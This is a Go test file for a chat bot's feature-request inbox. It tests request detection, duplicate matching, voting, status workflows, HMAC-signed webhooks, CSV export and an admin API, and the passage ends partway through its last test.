package inbox_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/einsatz/einsatz/adapters/web"
	"github.com/einsatz/einsatz/adapters/webhook"
	"github.com/einsatz/einsatz/bot"
	"github.com/einsatz/einsatz/bot/bottest"
	"github.com/einsatz/einsatz/bot/request"
	"github.com/einsatz/einsatz/bot/request/requesttest"
	"github.com/einsatz/einsatz/handlers/inbox"
	"github.com/einsatz/einsatz/storage"
)

var t0 = time.Date(2026, 3, 2, 10, 0, 0, 0, time.UTC)

// fakeDetect scores texts containing "please add" or "wäre schön" high,
// "maybe add" as borderline, everything else low.
func fakeDetect(text, _ string) float64 {
	low := strings.ToLower(text)
	switch {
	case strings.Contains(low, "please add"), strings.Contains(low, "wäre schön"):
		return 0.9
	case strings.Contains(low, "maybe add"):
		return 0.4
	}
	return 0.05
}

type post struct {
	To    bot.ThreadRef
	Reply bot.Reply
}

type poster struct {
	mu    sync.Mutex
	posts []post
}

func (p *poster) Post(_ context.Context, to bot.ThreadRef, r bot.Reply) error {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.posts = append(p.posts, post{to, r})
	return nil
}

func (p *poster) all() []post {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]post(nil), p.posts...)
}

// owners is who owns which thread, for tests that need no database.
type owners struct {
	mu sync.Mutex
	m  map[bot.ThreadRef]bot.Owner
}

func (o *owners) Owner(_ context.Context, t bot.ThreadRef) (bot.Owner, error) {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.m[t], nil
}

func (o *owners) SetOwner(_ context.Context, t bot.ThreadRef, owner bot.Owner) error {
	o.mu.Lock()
	defer o.mu.Unlock()
	if o.m == nil {
		o.m = map[bot.ThreadRef]bot.Owner{}
	}
	o.m[t] = owner
	return nil
}

type fixture struct {
	store  *requesttest.Mem
	owners *owners
	svc    *inbox.Service
	post   *poster
	clock  *bottest.Clock
}

func newFixture(t *testing.T, mod func(*inbox.Options)) *fixture {
	t.Helper()
	f := &fixture{store: requesttest.NewMem(), owners: &owners{}, post: &poster{}, clock: bottest.NewClock(t0)}
	o := inbox.Options{Store: f.store, Owners: f.owners, Poster: f.post, Clock: f.clock, Detect: fakeDetect,
		Logger:    slog.New(slog.NewTextHandler(io.Discard, nil)),
		Sentiment: func(text, _ string) float64 { return -0.25 }}
	if mod != nil {
		mod(&o)
	}
	f.svc = inbox.New(o)
	t.Cleanup(f.svc.Close)
	return f
}

func message(platform, channel, msgID, user, text string) *bot.Event {
	return &bot.Event{Key: platform + ":" + msgID, Kind: bot.KindMessage, Platform: platform, ChannelID: channel, MessageID: msgID,
		User: bot.User{Platform: platform, ID: user, Name: user}, Text: text, Lang: "en", Time: t0,
		Permalink: "https://chat.example/" + platform + "/" + msgID}
}

// Test: normalisation drops request phrasing and stop words in English and
// German, so different wordings of one wish match and different wishes do
// not.
func TestSimilarity(t *testing.T) {
	for _, tc := range []struct {
		a, b string
		same bool
	}{
		{"Please add a dark mode", "It would be great to have dark mode!", true},
		{"please add dark mode to the dashboard", "Dark mode for the dashboard would be nice", true},
		{"Wäre schön, wenn es einen Dark Mode gäbe", "please add dark mode", true},
		{"Bitte baut einen CSV-Export ein", "CSV Export wäre toll", true},
		{"please add dark mode", "please add CSV export", false},
		{"please add an API for webhooks", "the login page crashes", false},
	} {
		got := inbox.Similarity(tc.a, tc.b)
		if (got >= 0.5) != tc.same {
			t.Errorf("Similarity(%q, %q) = %.2f, want same=%v", tc.a, tc.b, got, tc.same)
		}
	}
	if got := inbox.Tokens("Please ADD Straße-Support, bitte!"); strings.Join(got, " ") != "strasse" {
		t.Errorf("Tokens = %v, want [strasse]", got)
	}
}

// Test: Match only looks at open items and picks the best.
func TestMatchOpenItems(t *testing.T) {
	items := []request.Item{
		{ID: 1, Title: "Dark mode", Status: request.StatusShipped},
		{ID: 2, Title: "CSV export", Status: request.StatusNew},
		{ID: 3, Title: "Dark mode for mobile", Status: request.StatusPlanned, Mentions: []request.Mention{{Text: "dark mode on my phone please"}}},
	}
	best, score := inbox.Match(items, "please add dark mode")
	if best == nil || best.ID != 3 || score < 0.5 {
		t.Fatalf("match = %v %.2f, want #3 (the shipped #1 is closed)", best, score)
	}
	if best, _ := inbox.Match(items[:1], "dark mode"); best != nil {
		t.Errorf("matched the closed item #%d", best.ID)
	}
}

// Test: the status workflow allows the documented moves only.
func TestStatusTransitions(t *testing.T) {
	for _, tc := range []struct {
		from, to string
		ok       bool
	}{
		{request.StatusNew, request.StatusUnderReview, true},
		{request.StatusUnderReview, request.StatusPlanned, true},
		{request.StatusPlanned, request.StatusInProgress, true},
		{request.StatusInProgress, request.StatusShipped, true},
		{request.StatusNew, request.StatusDeclined, true},
		{request.StatusDeclined, request.StatusUnderReview, true},
		{request.StatusShipped, request.StatusNew, false},
		{request.StatusNew, request.StatusDuplicate, false},
		{request.StatusDuplicate, request.StatusNew, false},
		{request.StatusNew, request.StatusNew, false},
	} {
		if got := inbox.CanMove(tc.from, tc.to); got != tc.ok {
			t.Errorf("CanMove(%s, %s) = %v, want %v", tc.from, tc.to, got, tc.ok)
		}
	}
}

// Test: a detected request becomes an item with an acknowledgement and a
// +1 button in its thread; the same wish from someone else becomes a
// mention and a vote; the same person again adds a mention but no vote;
// a bug report and a question create nothing.
func TestObserveDetectsAndJoins(t *testing.T) {
	f := newFixture(t, nil)
	ctx := context.Background()
	steps := []struct {
		ev        *bot.Event
		wantItems int
		wantVotes int
		wantPosts int
		ackPart   string
	}{
		{message("discord", "gen", "m1", "alice", "Please add a dark mode to the dashboard"), 1, 1, 1, "as #1."},
		{message("slack", "C1", "1.1", "bob", "please add dark mode for the dashboard"), 1, 2, 2, "#1 (1 others"},
		{message("discord", "gen", "m3", "alice", "please add dark mode to the dashboard, really"), 1, 2, 3, "#1 (1 others"},
		{message("discord", "gen", "m4", "carol", "The dashboard crashes when I log in"), 1, 2, 3, ""},
		{message("discord", "gen", "m5", "dave", "How do I export my data?"), 1, 2, 3, ""},
		{message("discord", "gen", "m6", "erin", "please add CSV export"), 2, 2, 4, "as #2."},
	}
	for i, st := range steps {
		if err := f.svc.Observe(ctx, st.ev); err != nil {
			t.Fatalf("step %d: %v", i, err)
		}
		items, _ := f.store.Items(ctx)
		if len(items) != st.wantItems || items[0].VoteCount != st.wantVotes {
			t.Fatalf("step %d: %d items, #1 has %d votes; want %d and %d", i, len(items), items[0].VoteCount, st.wantItems, st.wantVotes)
		}
		posts := f.post.all()
		if len(posts) != st.wantPosts {
			t.Fatalf("step %d: %d posts, want %d", i, len(posts), st.wantPosts)
		}
		if st.ackPart != "" {
			last := posts[len(posts)-1]
			if !strings.Contains(last.Reply.Text, st.ackPart) || last.To != st.ev.Thread() {
				t.Errorf("step %d: ack %q in %v, want %q in %v", i, last.Reply.Text, last.To, st.ackPart, st.ev.Thread())
			}
			if len(last.Reply.Buttons) != 1 || last.Reply.Buttons[0].Action != inbox.ActionVote {
				t.Errorf("step %d: buttons = %+v", i, last.Reply.Buttons)
			}
		}
	}
	it, _ := f.store.Item(ctx, 1)
	if len(it.Mentions) != 3 || it.Mentions[0].Sentiment != -0.25 || it.Mentions[1].Platform != "slack" {
		t.Errorf("mentions = %+v", it.Mentions)
	}
}

// Test: in a staff-owned thread the request is recorded but the bot stays
// silent; staff messages and bots are not requests.
func TestObserveSilentInStaffThread(t *testing.T) {
	f := newFixture(t, nil)
	ctx := context.Background()
	ev := message("discord", "gen", "m1", "alice", "please add dark mode")
	ev.Owner = bot.Owner{Staff: "sam"}
	if err := f.svc.Observe(ctx, ev); err != nil {
		t.Fatal(err)
	}
	staff := message("discord", "gen", "m2", "sam", "please add webhooks")
	staff.User.Staff = true
	f.svc.Observe(ctx, staff)
	items, _ := f.store.Items(ctx)
	if len(items) != 1 {
		t.Errorf("%d items, want 1 (staff messages are not requests)", len(items))
	}
	if n := len(f.post.all()); n != 0 {
		t.Errorf("%d posts in a staff-owned thread", n)
	}
}

// Test: a borderline score asks the Confirm hook, whose title is used; a
// low score never asks it.
func TestConfirmBorderline(t *testing.T) {
	var asked atomic.Int32
	f := newFixture(t, func(o *inbox.Options) {
		o.Confirm = inbox.ConfirmFunc(func(_ context.Context, text, _ string) (inbox.Confirmation, error) {
			asked.Add(1)
			return inbox.ParseConfirmation("```json\n{\"feature_request\": true, \"title\": \"Offline mode\", \"summary\": \"Use the app without a connection.\"}\n```")
		})
	})
	ctx := context.Background()
	f.svc.Observe(ctx, message("discord", "gen", "m1", "alice", "maybe add a way to work without internet"))
	f.svc.Observe(ctx, message("discord", "gen", "m2", "bob", "thanks, great work"))
	it, err := f.store.Item(ctx, 1)
	if err != nil || it.Title != "Offline mode" || it.Summary != "Use the app without a connection." {
		t.Fatalf("item = %+v, err %v", it, err)
	}
	if asked.Load() != 1 {
		t.Errorf("Confirm asked %d times, want 1", asked.Load())
	}
	if _, err := inbox.ParseConfirmation(`{"feature_request": true, "title": ""}`); err == nil {
		t.Error("a request without a title was accepted")
	}
	if _, err := inbox.ParseConfirmation(`{"feature_request": false, "extra": 1}`); err == nil {
		t.Error("unknown fields were accepted")
	}
}

// Test: forwarding by message command, reaction and /feedback; a reaction
// without text in the event uses the message seen before; forwarding the
// same message twice files it once.
func TestForwarding(t *testing.T) {
	f := newFixture(t, nil)
	ctx := context.Background()
	routes := f.svc.Routes()
	handle := func(ev *bot.Event) []bot.Reply {
		t.Helper()
		for _, r := range routes {
			if r.Match(ev) {
				replies, err := r.Handler.Handle(ctx, ev)
				if err != nil {
					t.Fatal(err)
				}
				return replies
			}
		}
		t.Fatalf("no route for %+v", ev)
		return nil
	}
	// A message the detector ignores, then forwarded by a moderator.
	msg := message("discord", "gen", "m1", "alice", "The export only has PDF, I need spreadsheets")
	f.svc.Observe(ctx, msg)
	cmd := &bot.Event{Key: "i1", Kind: bot.KindCommand, Command: "forward", Platform: "discord", ChannelID: "gen", MessageID: "i1",
		User: bot.User{ID: "mod", Name: "mod", Staff: true}, Lang: "en",
		Target: &bot.Message{ID: "m1", ChannelID: "gen", User: bot.User{ID: "alice", Name: "alice"}, Text: msg.Text}}
	replies := handle(cmd)
	if len(replies) != 1 || !strings.Contains(replies[0].Text, "#1") || !replies[0].Notice {
		t.Fatalf("forward replies = %+v", replies)
	}
	posts := f.post.all()
	if len(posts) != 1 || posts[0].To != (bot.ThreadRef{Platform: "discord", ChannelID: "gen", ThreadID: "m1"}) {
		t.Fatalf("ack posts = %+v, want one in the message's thread", posts)
	}
	it, _ := f.store.Item(ctx, 1)
	if m := it.Mentions[0]; m.UserID != "alice" || m.By != "mod" || m.Source != request.SourceForwarded || it.Votes[0].UserID != "alice" {
		t.Errorf("forwarded mention = %+v, votes %+v", m, it.Votes)
	}
	if again := handle(cmd); !strings.Contains(again[0].Text, "already") {
		t.Errorf("second forward = %q", again[0].Text)
	}

	// A reaction carries no text: the message seen before supplies it.
	other := message("slack", "C1", "2.2", "bob", "I would love keyboard shortcuts everywhere")
	f.svc.Observe(ctx, other)
	for _, emoji := range []string{"bulb", "👍"} {
		react := &bot.Event{Key: "r-" + emoji, Kind: bot.KindReaction, Reaction: emoji, Platform: "slack", ChannelID: "C1", MessageID: "2.2",
			User: bot.User{ID: "carol"}, Target: &bot.Message{ID: "2.2", ChannelID: "C1"}}
		if err := f.svc.Observe(ctx, react); err != nil {
			t.Fatal(err)
		}
	}
	items, _ := f.store.Items(ctx)
	if len(items) != 2 || items[1].Mentions[0].Text != other.Text || items[1].Mentions[0].UserID != "bob" {
		t.Fatalf("after the reaction: %+v", items)
	}

	// /feedback
	fb := &bot.Event{Key: "f1", Kind: bot.KindCommand, Command: "feedback", Args: "please add a calendar view", Platform: "slack",
		ChannelID: "C1", ThreadID: "3.3", User: bot.User{ID: "dan", Name: "dan"}, Lang: "de"}
	replies = handle(fb)
	if len(replies) != 1 || !strings.Contains(replies[0].Text, "Danke!") || !strings.Contains(replies[0].Text, "#3") {
		t.Fatalf("feedback replies = %+v", replies)
	}
	if r := handle(&bot.Event{Kind: bot.KindCommand, Command: "feedback", Lang: "en"}); !strings.Contains(r[0].Text, "/feedback") {
		t.Errorf("empty feedback answer = %q", r[0].Text)
	}

	// +1 button: once per person.
	click := &bot.Event{Kind: bot.KindInteraction, Action: inbox.ActionVote, Value: "3", Platform: "slack", User: bot.User{ID: "erin"}, Lang: "en"}
	if r := handle(click); !strings.Contains(r[0].Text, "2 votes") {
		t.Errorf("vote answer = %q", r[0].Text)
	}
	if r := handle(click); !strings.Contains(r[0].Text, "already") {
		t.Errorf("second vote answer = %q", r[0].Text)
	}
}

// Test: a status change posts once per original thread, names the people
// who asked there, respects the daily cap per channel, stays out of
// staff-owned threads, and records who changed it; duplicate is reached
// by merging only and merged votes are not doubled.
func TestStatusChangeAndMerge(t *testing.T) {
	f := newFixture(t, func(o *inbox.Options) { o.DailyCapPerChannel = 1 })
	ctx := context.Background()
	f.svc.Observe(ctx, message("discord", "gen", "m1", "alice", "please add dark mode"))
	reply := message("discord", "gen", "m2", "bob", "please add dark mode too")
	reply.ThreadID = "m1" // in alice's thread
	f.svc.Observe(ctx, reply)
	f.svc.Observe(ctx, message("discord", "gen", "m3", "carol", "please add a dark mode theme"))  // same channel: over the cap
	f.svc.Observe(ctx, message("slack", "C1", "1.1", "dave", "please add dark mode, wäre schön")) // another channel
	f.owners.SetOwner(ctx, bot.ThreadRef{Platform: "slack", ChannelID: "C1", ThreadID: "4.4"}, bot.Owner{Staff: "sam"})
	staffThread := message("slack", "C1", "4.4", "erin", "please add dark mode")
	f.svc.Observe(ctx, staffThread)
	it, _ := f.store.Item(ctx, 1)
	if it.VoteCount != 5 || len(it.Mentions) != 5 {
		t.Fatalf("item = %d votes, %d mentions", it.VoteCount, len(it.Mentions))
	}
	before := len(f.post.all())
	it, err := f.svc.SetStatus(ctx, 1, request.StatusPlanned, "Coming in 2.0", "pat")
	if err != nil {
		t.Fatal(err)
	}
	posts := f.post.all()[before:]
	if len(posts) != 2 {
		t.Fatalf("status posts = %+v, want 2 (alice's thread, the Slack thread; carol's is over the cap, erin's is staff-owned)", posts)
	}
	if p := posts[0]; p.To.ThreadID != "m1" || !strings.Contains(p.Reply.Text, "@alice @bob") || !strings.Contains(p.Reply.Text, "planned. Coming in 2.0") {
		t.Errorf("first post = %+v", p)
	}
	last := it.Changes[len(it.Changes)-1]
	if last.By != "pat" || last.Posted != 2 || last.Skipped != 2 || last.From != request.StatusNew {
		t.Errorf("change = %+v", last)
	}
	if _, err := f.svc.SetStatus(ctx, 1, request.StatusNew, "", "pat"); err == nil {
		t.Error("planned → new was allowed")
	}
	if _, err := f.svc.SetStatus(ctx, 1, request.StatusDuplicate, "", "pat"); err == nil {
		t.Error("duplicate by status change was allowed")
	}
	// The next day the cap is fresh.
	f.clock.Advance(24 * time.Hour)
	before = len(f.post.all())
	f.svc.SetStatus(ctx, 1, request.StatusInProgress, "", "pat")
	if n := len(f.post.all()) - before; n != 2 {
		t.Errorf("next day: %d posts, want 2 (one per channel again)", n)
	}

	// Merge: #2 (frank, alice) into #1, where alice voted already.
	f.svc.Observe(ctx, message("discord", "dev", "m9", "frank", "please add an API for webhooks"))
	f.svc.Vote(ctx, 2, request.Vote{Platform: "discord", UserID: "alice", Time: t0})
	merged, err := f.svc.Merge(ctx, 2, 1, "pat")
	if err != nil {
		t.Fatal(err)
	}
	if merged.VoteCount != 6 || len(merged.Mentions) != 6 {
		t.Errorf("merged: %d votes, %d mentions; want 6 and 6", merged.VoteCount, len(merged.Mentions))
	}
	if _, err := f.svc.Merge(ctx, 1, 1, "pat"); err == nil {
		t.Error("merged an item into itself")
	}
	if _, err := f.svc.Merge(ctx, 1, 2, "pat"); err == nil {
		t.Error("merged into a duplicate")
	}
	// A +1 on the duplicate counts for the target.
	if it, voted, err := f.svc.Vote(ctx, 2, request.Vote{Platform: "discord", UserID: "gina", Time: t0}); err != nil || !voted || it.ID != 1 {
		t.Errorf("vote on duplicate: #%d voted %v err %v", it.ID, voted, err)
	}
}

// Test: webhooks (adapters/webhook as the inbox's notifiers) are signed
// with HMAC-SHA256 over the body, retried with backoff on 5xx, not retried
// on 4xx, and sent for new items, votes and status changes.
func TestWebhooks(t *testing.T) {
	var mu sync.Mutex
	var got []inbox.Payload
	var calls atomic.Int32
	good := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		if calls.Add(1) <= 2 {
			http.Error(w, "busy", http.StatusServiceUnavailable)
			return
		}
		if !webhook.VerifySignature("s3cret", body, r.Header.Get(webhook.HeaderSignature)) {
			http.Error(w, "bad signature", http.StatusUnauthorized)
			return
		}
		var p inbox.Payload
		json.Unmarshal(body, &p)
		if r.Header.Get(webhook.HeaderEvent) != p.Event || r.Header.Get(webhook.HeaderDelivery) != p.Delivery {
			http.Error(w, "headers", http.StatusBadRequest)
			return
		}
		mu.Lock()
		got = append(got, p)
		mu.Unlock()
	}))
	defer good.Close()
	var rejected atomic.Int32
	bad := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rejected.Add(1)
		http.Error(w, "gone", http.StatusGone)
	}))
	defer bad.Close()

	f := newFixture(t, func(o *inbox.Options) {
		o.Notifiers = []inbox.Notifier{
			webhook.New(webhook.Options{URL: good.URL, Secret: "s3cret", Backoff: 5 * time.Millisecond}),
			webhook.New(webhook.Options{URL: bad.URL + "?token=x", Secret: "other", Backoff: 5 * time.Millisecond}),
		}
	})
	ctx := context.Background()
	f.svc.Observe(ctx, message("discord", "gen", "m1", "alice", "please add dark mode"))
	f.svc.Flush()
	f.svc.Observe(ctx, message("slack", "C1", "1.1", "bob", "please add dark mode"))
	f.svc.Flush()
	f.svc.SetStatus(ctx, 1, request.StatusPlanned, "soon", "pat")
	f.svc.Flush()
	mu.Lock()
	defer mu.Unlock()
	var events []string
	for _, p := range got {
		events = append(events, p.Event)
	}
	if strings.Join(events, ",") != "item.created,item.voted,item.status_changed" {
		t.Fatalf("events = %v", events)
	}
	if got[2].Change == nil || got[2].Change.Note != "soon" || got[2].Change.By != "pat" || got[2].Item.Status != request.StatusPlanned {
		t.Errorf("status payload = %+v", got[2])
	}
	if calls.Load() != 5 {
		t.Errorf("%d calls to the good hook, want 5 (2 failures retried)", calls.Load())
	}
	if rejected.Load() != 3 {
		t.Errorf("%d calls to the rejecting hook, want 3 (4xx is not retried)", rejected.Load())
	}
}

// Test: the CSV export survives commas, quotes, line breaks and umlauts
// and reads back to the same items.
func TestCSVRoundTrip(t *testing.T) {
	items := []request.Item{
		{ID: 1, Title: `Export, "quoted", and more`, Summary: "line one\nline two, with comma", Status: request.StatusPlanned,
			Tags: []string{"export", "ux"}, VoteCount: 3, Created: t0, Updated: t0.Add(time.Hour),
			Mentions: []request.Mention{{Platform: "discord", Channel: "gen", Text: "Bitte baut einen Export für Größen & Maße — „schön“, ja?\r\nDanke", Permalink: "https://x/1"}}},
		{ID: 2, Title: "Ümläüte: äöüß ÄÖÜ", Status: request.StatusDuplicate, DuplicateOf: 1, Created: t0, Updated: t0},
	}
	var buf bytes.Buffer
	if err := inbox.WriteCSV(&buf, items, t0); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\uFEFFid,title")) {
		t.Errorf("no UTF-8 BOM and header: %q", buf.String()[:20])
	}
	back, err := inbox.ReadCSV(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(back) != 2 {
		t.Fatalf("%d items back", len(back))
	}
	for i := range items {
		a, b := items[i], back[i]
		if a.ID != b.ID || a.Title != b.Title || a.Summary != b.Summary || a.Status != b.Status || strings.Join(a.Tags, ";") != strings.Join(b.Tags, ";") ||
			a.VoteCount != b.VoteCount || !a.Created.Equal(b.Created) || !a.Updated.Equal(b.Updated) || a.DuplicateOf != b.DuplicateOf {
			t.Errorf("item %d: wrote %+v, read %+v", i, a, b)
		}
	}
	// encoding/csv turns \r\n inside a quoted field into \n.
	if want := strings.ReplaceAll(items[0].Mentions[0].Text, "\r\n", "\n"); back[0].Mentions[0].Text != want {
		t.Errorf("first request = %q, want %q", back[0].Mentions[0].Text, want)
	}
}

// Test: filters and sort orders of the list.
func TestFilterAndSort(t *testing.T) {
	now := t0.AddDate(0, 0, 30)
	recent := []request.Vote{{Time: now}, {Time: now}}
	items := []request.Item{
		{ID: 1, Status: request.StatusNew, VoteCount: 5, Created: t0, Tags: []string{"ui"}, Mentions: []request.Mention{{Platform: "discord", Channel: "gen"}},
			Votes: []request.Vote{{Time: t0}, {Time: t0}, {Time: t0}, {Time: t0}, {Time: now}}},
		{ID: 2, Status: request.StatusPlanned, VoteCount: 2, Created: t0.AddDate(0, 0, 10), Mentions: []request.Mention{{Platform: "slack", Channel: "C1"}}, Votes: recent},
		{ID: 3, Status: request.StatusShipped, VoteCount: 9, Created: t0.AddDate(0, 0, 20), Tags: []string{"ui", "api"}, Mentions: []request.Mention{{Platform: "slack", Channel: "C2"}}},
	}
	for _, tc := range []struct {
		query string
		want  string
	}{
		{"", "3,1,2"},
		{"sort=newest", "3,2,1"},
		{"sort=recent", "2,1,3"},
		{"status=open", "1,2"},
		{"status=planned", "2"},
		{"tag=ui", "3,1"},
		{"platform=slack", "3,2"},
		{"channel=C1", "2"},
		{"since=2026-03-12", "3,2"},
		{"until=2026-03-12", "1,2"},
		{"since=2026-03-12&until=2026-03-12", "2"},
	} {
		q, _ := url.ParseQuery(tc.query)
		f, err := inbox.ParseFilter(q)
		if err != nil {
			t.Fatalf("%s: %v", tc.query, err)
		}
		var ids []string
		for _, it := range f.Apply(items, now) {
			ids = append(ids, fmt.Sprint(it.ID))
		}
		if got := strings.Join(ids, ","); got != tc.want {
			t.Errorf("%s: %s, want %s", tc.query, got, tc.want)
		}
		if back, _ := inbox.ParseFilter(f.Query()); back != f {
			t.Errorf("%s: Query does not round-trip: %+v vs %+v", tc.query, back, f)
		}
	}
	for _, bad := range []string{"status=nope", "sort=alpha", "since=yesterday"} {
		q, _ := url.ParseQuery(bad)
		if _, err := inbox.ParseFilter(q); err == nil {
			t.Errorf("%s accepted", bad)
		}
	}
}

// Test: every text key has an English and a German default.
func TestTextDefaults(t *testing.T) {
	for _, k := range inbox.TextKeys {
		en, de := inbox.DefaultText("en", k), inbox.DefaultText("de", k)
		if en == "" || de == "" {
			t.Errorf("%s: en %q de %q", k, en, de)
		}
	}
}

// Test: the admin API answers with JSON, records the acting staff member,
// and maps expected errors to 404 and 409.
func TestAdminAPI(t *testing.T) {
	f := newFixture(t, nil)
	ctx := context.Background()
	f.svc.Observe(ctx, message("discord", "gen", "m1", "alice", "please add dark mode"))
	f.svc.Observe(ctx, message("discord", "gen", "m2", "bob", "please add webhooks"))
	// Through the web adapter's admin API, as staff member pat.
	// The site keeps its logins and audit in the shared store.
	db, err := storage.Open(storage.Options{InMemory: true, Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	site, err := web.New(web.Options{Store: db, Core: bot.New(bot.Options{Store: db}),
		Logger: slog.New(slog.DiscardHandler), Accounts: []web.Account{{Name: "pat", Role: "staff", Token: "pat-token"}}})
	if err != nil {
		t.Fatal(err)
	}
	site.AddInbox(f.svc)
	mux := site.Handler()
	do := func(method, path, body string) (int, string) {
		req := httptest.NewRequest(method, path, strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer pat-token")
		rec := httptest.NewRecorder()
		mux.ServeHTTP(rec, req)
		return rec.Code, rec.Body.String()
	}
	for _, tc := range []struct {
		method, path, body string
		code               int
		part               string
	}{
		{"GET", "/api/admin/inbox?sort=newest", "", 200, `"id":2`},
		{"GET", "/api/admin/inbox?status=bogus", "", 400, "unknown status"},
		{"GET", "/api/admin/inbox/1", "", 200, `"mentions":[`},
		{"GET", "/api/admin/inbox/99", "", 404, "no such item"},
		{"POST", "/api/admin/inbox/1/status", `{"status":"planned","note":"soon"}`, 200, `"by":"pat"`},
		{"POST", "/api/admin/inbox/1/status", `{"status":"new"}`, 409, "cannot become new"},
		{"POST", "/api/admin/inbox/1/status", `{"state":"new"}`, 400, "unknown field"},
		{"POST", "/api/admin/inbox/1/tags", `{"tags":["UI, Dark", "ui"]}`, 200, `"tags":["dark","ui"]`},
		{"POST", "/api/admin/inbox/merge", `{"from":2,"into":2}`, 409, "itself"},
		{"POST", "/api/admin/inbox/merge", `{"from":2,"into":1}`, 200, `"votes":2`},
		{"GET", "/api/admin/inbox/export?format=json", "", 200, `"duplicate_of": 1`},
		{"GET", "/api/admin/inbox/export?format=xml", "", 400, "csv or json"},
		{"POST", "/api/admin/inbox/1/edit", `{"title":"Dark mode"}`, 200, `"old_title":"please add dark mode"`},
		{"POST", "/api/admin/inbox/1/edit", `{"title":" "}`, 400, "cannot be empty"},
		{"POST", "/api/admin/inbox/1/not-request", "", 200, `"status":"not_request"`},
		{"POST", "/api/admin/inbox/1/not-request", "", 409, "already"},
		{"GET", "/api/admin/inbox?status=open", "", 200, `[]`},
		{"GET", "/api/admin/inbox?status=not_request", "", 200, `"id":1`},
		{"POST", "/api/admin/inbox/1/restore", "", 200, `"status":"new"`},
		{"POST", "/api/admin/inbox/9/restore", "", 404, "no such item"},
	} {
		code, body := do(tc.method, tc.path, tc.body)
		if code != tc.code || !strings.Contains(body, tc.part) {
			t.Errorf("%s %s: %d %s, want %d with %q", tc.method, tc.path, code, body, tc.code, tc.part)
		}
	}
}

// Test: a configured Slack-style reaction name also matches the emoji on
// Discord, and /feedback in a staff-owned thread is filed with a notice.
func TestReactionAliasAndFeedbackInStaffThread(t *testing.T) {
	f := newFixture(t, func(o *inbox.Options) { o.ReactionEmoji = ":bulb:" })
	ctx := context.Background()
	f.svc.Observe(ctx, message("discord", "gen", "m1", "alice", "an offline mode"))
	react := &bot.Event{Kind: bot.KindReaction, Reaction: "💡", Platform: "discord", ChannelID: "gen", MessageID: "m1",
		User: bot.User{ID: "bob"}, Target: &bot.Message{ID: "m1", ChannelID: "gen"}}
	if err := f.svc.Observe(ctx, react); err != nil {
		t.Fatal(err)
	}
	if items, _ := f.store.Items(ctx); len(items) != 1 {
		t.Fatalf("%d items after the 💡 reaction with :bulb: configured", len(items))
	}
	var fb bot.Route
	for _, r := range f.svc.Routes() {
		if r.Name == "inbox-feedback" {
			fb = r
		}
	}
	ev := &bot.Event{Kind: bot.KindCommand, Command: "feedback", Args: "please add a calendar", Platform: "slack", ChannelID: "C1",
		ThreadID: "1.1", User: bot.User{ID: "dan"}, Owner: bot.Owner{Staff: "sam"}, Lang: "en"}
	replies, err := fb.Handler.Handle(ctx, ev)
	if err != nil || !fb.BypassGate || len(replies) != 1 || !replies[0].Notice || len(replies[0].Buttons) != 0 {
		t.Fatalf("feedback in a staff thread: %+v (err %v, bypass %v)", replies, err, fb.BypassGate)
	}
}

// Test: with embeddings configured, a request that shares no words with an
// open item but means the same joins it; without them it opens a new item.
// Each text is embedded once; an embedding outage falls back to words.
func TestEmbeddingsMatchParaphrases(t *testing.T) {
	// The fake model: texts about dark themes point one way, the rest another.
	var mu sync.Mutex
	embedded := map[string]int{}
	embed := func(_ context.Context, texts []string) ([][]float32, error) {
		mu.Lock()
		defer mu.Unlock()
		out := make([][]float32, len(texts))
		for i, t := range texts {
			embedded[t]++
			low := strings.ToLower(t)
			switch {
			case strings.Contains(low, "dark") || strings.Contains(low, "night theme"):
				out[i] = []float32{1, 0.1, 0}
			default:
				out[i] = []float32{0, 0.2, 1}
			}
		}
		return out, nil
	}
	first := "Please add a dark mode to the dashboard"
	para := "would love a night theme for the UI"
	other := "please add an export to PDF"
	for _, tt := range []struct {
		name      string
		embed     func(context.Context, []string) ([][]float32, error)
		wantItems int
	}{
		{"words only", nil, 3},
		{"with embeddings", embed, 2},
		{"embedding outage", func(context.Context, []string) ([][]float32, error) { return nil, errors.New("503") }, 3},
	} {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t, func(o *inbox.Options) { o.Embed = tt.embed })
			ctx := context.Background()
			for i, text := range []string{first, para, other} {
				m := request.Mention{Platform: "discord", Channel: "gen", MessageID: fmt.Sprint("m", i), UserID: fmt.Sprint("u", i), Text: text, Time: t0}
				if _, err := f.svc.Submit(ctx, m, nil); err != nil {
					t.Fatal(err)
				}
			}
			items, err := f.store.Items(ctx)
			if err != nil {
				t.Fatal(err)
			}
			if len(items) != tt.wantItems {
				t.Fatalf("%d items, want %d: %+v", len(items), tt.wantItems, items)
			}
			if tt.wantItems == 2 && (items[0].VoteCount+items[1].VoteCount != 3 || max(items[0].VoteCount, items[1].VoteCount) != 2) {
				t.Errorf("votes %d and %d, want the paraphrase on the dark-mode item", items[0].VoteCount, items[1].VoteCount)
			}
		})
	}
	mu.Lock()
	defer mu.Unlock()
	for text, n := range embedded {
		if n != 1 {
			t.Errorf("%q embedded %d times, want once", text, n)
		}
	}
}

// Test: a message to the bot has one reading. Read as a question, it is
// not filed even when the detector would say "request"; read as a request,
// the "inbox-request" route files it and its one reply is the thanks; the
// observer files nothing twice.
func TestReadingDecidesForMessagesToTheBot(t *testing.T) {
	f := newFixture(t, nil)
	ctx := context.Background()
	route := func(ev *bot.Event) bot.Route {
		for _, r := range f.svc.Routes() {
			if r.Match(ev) {
				return r
			}
		}
		t.Fatalf("no route for reading %q", ev.Reading)
		return bot.Route{}
	}

	q := message("discord", "gen", "m1", "alice", "please add dark mode? how do I turn it on")
	q.Reading = bot.ReadingQuestion
	if err := f.svc.Observe(ctx, q); err != nil {
		t.Fatal(err)
	}
